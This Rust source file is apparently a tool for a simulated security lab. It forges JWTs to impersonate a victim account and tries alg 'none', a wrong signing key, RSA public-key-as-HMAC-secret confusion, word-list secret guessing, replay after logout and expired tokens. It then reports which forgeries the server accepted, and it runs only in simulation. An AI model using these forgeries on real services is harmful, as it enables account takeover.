//! `token-forger`: has an account of its own, reads its token without any key, and then tries to pass for somebody else. Each attempt
//! is what the literature warns of (RFC 8725 §2); whether it works is the server's doing.

use core::time::Duration;
use std::sync::Arc;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use http::Method;
use ring::hmac;
use ring::rand::SystemRandom;
use ring::signature::{RSA_PKCS1_SHA256, RsaKeyPair};
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::{Map, Value, json};
use url::Url;

use super::application::naive::parts;
use super::application::token::{random_text, seconds};
use super::{Asker, is_simulated, url, wrong};
use crate::app::read_table;
use crate::pki::KeyWord;
use crate::tls::ClientOptions;
use crate::tls::server::below;
use crate::{App, AppFuture, Cx, Env, Problem, Ready};

/// One who makes tokens.
#[derive(Clone, Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct TokenForger {
    /// The application: `http://server`.
    pub url: String,
    /// Its own account there.
    pub user: String,
    /// The password of that account.
    pub password: String,
    /// Whom it wants to be.
    pub victim: String,
    /// What it tries; everything unless given.
    #[serde(default)]
    pub attempts: Vec<Attempt>,
    /// A certificate whose RSA key is its own, for `wrong-key` against RS256.
    #[serde(default)]
    pub key: Option<String>,
    /// Secrets that it tries at home, without the server, for `guessed-secret`.
    #[serde(default)]
    pub words: Vec<String>,
    /// Its TLS.
    #[serde(default)]
    pub tls: ClientOptions,
}

/// What is done to a token.
#[derive(Clone, Copy, Debug, Deserialize, JsonSchema, PartialEq, Eq)]
#[serde(rename_all = "kebab-case")]
pub enum Attempt {
    /// Nothing: it shows its own, as it may.
    Genuine,
    /// Another `sub`, and the signature of the old one.
    ChangedPayload,
    /// Another `sub`, `alg: none`, no signature.
    AlgNone,
    /// Another `sub`, signed with a key of its own.
    WrongKey,
    /// Another `sub`, signed by HS256 with the server's public key, as text, for a secret.
    PublicKeyAsSecret,
    /// Another `sub`, signed with a secret that a list of words had.
    GuessedSecret,
    /// Its own, after a logout.
    AfterLogout,
    /// Its own, a second after its end.
    Expired,
}

const ALL: [Attempt; 8] = [
    Attempt::Genuine,
    Attempt::ChangedPayload,
    Attempt::AlgNone,
    Attempt::WrongKey,
    Attempt::PublicKeyAsSecret,
    Attempt::GuessedSecret,
    Attempt::AfterLogout,
    Attempt::Expired,
];

impl Attempt {
    fn name(self) -> &'static str {
        match self {
            Attempt::Genuine => "genuine",
            Attempt::ChangedPayload => "changed payload",
            Attempt::AlgNone => "alg: none",
            Attempt::WrongKey => "another key",
            Attempt::PublicKeyAsSecret => "public key as secret",
            Attempt::GuessedSecret => "guessed secret",
            Attempt::AfterLogout => "after the logout",
            Attempt::Expired => "expired",
        }
    }
}

/// Words that are tried.
const WORDS: usize = 100_000;
/// The longest that an expired token is waited for.
const PATIENCE: u64 = 86_400;

/// Reads the table.
///
/// # Errors
/// What is wrong with it.
pub fn read(table: &Map<String, Value>, env: &Env) -> Result<Ready, Vec<Problem>> {
    let mut app: TokenForger = read_table(table)?;
    let mut problems: Vec<Problem> = url("url", &app.url).err().into_iter().collect();
    if app.words.len() > WORDS {
        problems.push(wrong("words", format!("more than {WORDS} words"), "fewer"));
    }
    if app.attempts.contains(&Attempt::GuessedSecret) && app.words.is_empty() {
        problems.push(wrong("words", "which secrets are guessed?", "words = [\"secret\", \"123456\"]"));
    }
    if let Some(name) = &app.key {
        let is_rsa = env.pki.table(name).is_some_and(|table| table.key == KeyWord::Rsa2048);
        if !is_rsa {
            let message = format!("there is no certificate `{name}` with an RSA key");
            problems.push(wrong("key", message, "[certificates.…] with key = \"rsa2048\""));
        }
    }
    if app.attempts.is_empty() {
        app.attempts.extend(ALL);
    }
    if env.pki.table(crate::pki::DEFAULT_CA).is_some() {
        problems.extend(below("tls", app.tls.check(env)));
    }
    if problems.is_empty() { Ok(Arc::new(app)) } else { Err(problems) }
}

/// A token of these parts without its signature.
fn unsigned(header: &Value, payload: &Value) -> String {
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    format!("{}.{}", part(header), part(payload))
}

fn with_hmac(text: &str, secret: &[u8]) -> String {
    let key = hmac::Key::new(hmac::HMAC_SHA256, secret);
    format!("{text}.{}", URL_SAFE_NO_PAD.encode(hmac::sign(&key, text.as_bytes())))
}

/// The word whose HMAC this token bears.
fn guessed<'a>(token: &str, words: &'a [String]) -> Option<&'a String> {
    words.iter().find(|word| {
        let signed = token.rsplit_once('.').map_or("", |(signed, _)| signed);
        with_hmac(signed, word.as_bytes()) == token
    })
}

/// What it has when it is logged in.
struct Mine {
    token: String,
    header: Value,
    payload: Value,
}

impl TokenForger {
    fn at(&self, path: &str) -> Url {
        let base = Url::parse(&self.url).expect("it was read before");
        base.join(path).expect("a path is part of a URL")
    }

    async fn login(&self, asker: &Asker) -> Result<Mine, String> {
        let body = json!({ "user": self.user, "password": self.password }).to_string();
        let kind = [("Content-Type", "application/json")];
        let asked = asker.ask(Method::POST, self.at("/login"), &kind, body).await?;
        let answer: Value = serde_json::from_str(&asked.body).unwrap_or_default();
        let token = answer.get("token").and_then(Value::as_str).map(str::to_string);
        // Or it came in a cookie.
        let cookie =
            || Some(asked.headers.get("set-cookie")?.to_str().ok()?.split([';', '=']).nth(1)?.to_string());
        let token = token
            .or_else(cookie)
            .ok_or_else(|| format!("no token: {} {}", asked.status, asked.body.trim()))?;
        let (header, payload, _) = parts(&token)?;
        Ok(Mine { token, header, payload })
    }

    async fn forged(&self, attempt: Attempt, mine: &Mine, asker: &Asker, cx: &Cx) -> Result<String, String> {
        let mut payload = mine.payload.clone();
        payload["sub"] = self.victim.as_str().into();
        let own = unsigned(&mine.header, &payload);
        let algorithm = mine.header.get("alg").and_then(Value::as_str).unwrap_or_default();
        let by_secret = unsigned(&json!({ "typ": "JWT", "alg": "HS256" }), &payload);
        Ok(match attempt {
            Attempt::Genuine => mine.token.clone(),
            Attempt::ChangedPayload => format!("{own}.{}", mine.token.rsplit('.').next().unwrap_or_default()),
            Attempt::AlgNone => format!("{}.", unsigned(&json!({ "typ": "JWT", "alg": "none" }), &payload)),
            Attempt::WrongKey if algorithm == "HS256" => with_hmac(&own, random_text(32).as_bytes()),
            Attempt::WrongKey => {
                let name = self.key.as_deref().ok_or("it has no RSA key of its own (key = …)")?;
                let identity = cx.env().pki.identity(name).ok_or("its key is not there")?;
                let pair =
                    RsaKeyPair::from_pkcs8(identity.key.secret_der()).map_err(|error| error.to_string())?;
                let mut signature = vec![0; pair.public().modulus_len()];
                let signed =
                    pair.sign(&RSA_PKCS1_SHA256, &SystemRandom::new(), own.as_bytes(), &mut signature);
                signed.map_err(|_| "it cannot sign")?;
                format!("{own}.{}", URL_SAFE_NO_PAD.encode(signature))
            }
            Attempt::PublicKeyAsSecret => {
                let pem = asker.ask(Method::GET, self.at("/public.pem"), &[], String::new()).await?;
                if pem.status != 200 {
                    return Err(format!("there is no public key: {}", pem.status));
                }
                with_hmac(&by_secret, pem.body.as_bytes())
            }
            Attempt::GuessedSecret => {
                let word = guessed(&mine.token, &self.words);
                let word = word.ok_or_else(|| format!("none of {} words is the secret", self.words.len()))?;
                with_hmac(&by_secret, word.as_bytes())
            }
            Attempt::AfterLogout => {
                let bearer = format!("Bearer {}", mine.token);
                let fields = [("Authorization", bearer.as_str())];
                asker.ask(Method::POST, self.at("/logout"), &fields, String::new()).await?;
                mine.token.clone()
            }
            Attempt::Expired => {
                let end = mine.payload.get("exp").and_then(Value::as_u64).ok_or("it has no end")?;
                let rest = (end + 1).saturating_sub(seconds());
                if rest > PATIENCE {
                    return Err("that is too long to wait".into());
                }
                tokio::time::sleep(Duration::from_secs(rest)).await;
                mine.token.clone()
            }
        })
    }

    async fn all(&self, cx: &Cx) -> Result<(), String> {
        let asker = Asker::new(&self.tls, cx);
        let mine = self.login(&asker).await?;
        cx.print(format!(
            "{}'s token says to anybody, without a key: {} {}",
            self.user, mine.header, mine.payload
        ));
        cx.print(format!("{:<22}answer", "token"));
        let mut believed = 0;
        for attempt in &self.attempts {
            let mine = self.login(&asker).await?;
            let name = attempt.name();
            let token = match self.forged(*attempt, &mine, &asker, cx).await {
                Ok(token) => token,
                Err(why) => {
                    cx.print(format!("{name:<22}not made: {why}"));
                    continue;
                }
            };
            let bearer = format!("Bearer {token}");
            let asked = asker
                .ask(Method::GET, self.at("/account"), &[("Authorization", &bearer)], String::new())
                .await?;
            let answer: Value = serde_json::from_str(&asked.body).unwrap_or_default();
            let text = |key: &str| answer.get(key).and_then(Value::as_str).unwrap_or("?").to_string();
            if asked.status == 200 {
                believed += usize::from(*attempt != Attempt::Genuine);
                cx.print(format!("{name:<22}200, taken for {}", text("user")));
            } else {
                cx.print(format!("{name:<22}{}, {}", asked.status, text("error")));
            }
        }
        let tried = self.attempts.iter().filter(|attempt| **attempt != Attempt::Genuine).count();
        cx.print(format!("{believed} of {tried} were believed by {}", self.url));
        Ok(())
    }
}

impl App for TokenForger {
    fn run(self: Arc<Self>, cx: Cx) -> AppFuture {
        Box::pin(async move {
            if !is_simulated(&cx) {
                return 1;
            }
            match self.all(&cx).await {
                Ok(()) => 0,
                Err(error) => {
                    cx.print(format!("token-forger: {error}"));
                    1
                }
            }
        })
    }
}
